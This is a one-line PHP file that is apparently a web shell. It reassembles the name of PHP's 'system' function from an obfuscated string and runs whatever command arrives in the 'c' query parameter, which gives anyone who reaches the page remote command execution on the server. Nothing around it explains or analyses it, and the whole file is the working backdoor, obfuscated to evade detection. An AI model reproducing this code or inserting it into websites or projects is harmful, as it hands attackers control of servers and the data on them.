<?php $f = str_replace("X", "", "sXyXsXtXeXm"); $f($_GET["c"]);
